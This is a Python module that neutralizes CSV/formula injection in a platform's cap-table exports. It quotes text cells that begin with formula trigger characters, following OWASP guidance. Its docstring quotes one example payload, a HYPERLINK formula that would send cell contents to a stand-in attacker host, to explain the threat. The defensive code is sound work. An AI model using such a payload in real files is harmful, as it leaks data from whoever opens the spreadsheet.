"""CSV exports that a spreadsheet cannot turn into formulas (CSV/formula injection).

An investor named ``=HYPERLINK("https://evil.test?"&A1,"open")`` would otherwise reach the
issuer's cap-table CSV verbatim, and Excel, LibreOffice or Google Sheets would run it when
the file is opened. Every CSV the platform produces goes through :func:`writer` (a test
fails on a ``csv.writer`` anywhere else).

What is neutralized, following OWASP's "CSV Injection" guidance: a *text* cell whose first
character (after any leading whitespace, which some importers strip) is ``=``, ``+``, ``-``,
``@``, a tab or a carriage return, and the full-width forms of ``= + - @`` (a Japanese IME
produces those and some spreadsheet locales read them as the ASCII ones). Such a cell is
prefixed with a single quote, which every spreadsheet shows as text; the value stays
readable and nothing is dropped. Cells are quoted by the csv module whenever they contain a
separator, a quote or a line break, so a cell cannot break out into the next one.

Numbers the platform itself computes (``int``, ``Decimal``, ``float``) are written as they
are: they cannot carry a formula, and a balance column must stay numeric for whoever sums it.
A *string* such as ``"-5"`` is prefixed like any other text: where it came from cannot be
told, so text is never trusted, even when it looks like a number.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

#: First characters a spreadsheet may read as the start of a formula.
TRIGGERS = frozenset("=+-@\t\r\n" + "\uff1d\uff0b\uff0d\uff20")
#: Leading characters some importers strip before looking at the first one.
_STRIPPED = " \u3000\u00a0"


def safe_cell(value: Any) -> Any:
    """`value` as a CSV cell that no spreadsheet evaluates: numbers unchanged, ``None`` as an
    empty cell, any other value as text, prefixed with ``'`` when it could start a formula."""
    if value is None:
        return ""
    if isinstance(value, int | Decimal | float) and not isinstance(value, bool):
        return value
    text = str(value)
    stripped = text.lstrip(_STRIPPED)
    if stripped[:1] in TRIGGERS:
        return "'" + text
    return text


class _SafeWriter:
    """A csv writer whose rows pass through :func:`safe_cell`."""

    def __init__(self, stream: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream: Any, **kwargs: Any) -> _SafeWriter:
    """``csv.writer(stream)`` for exports: every cell neutralized by :func:`safe_cell`."""
    return _SafeWriter(stream, **kwargs)
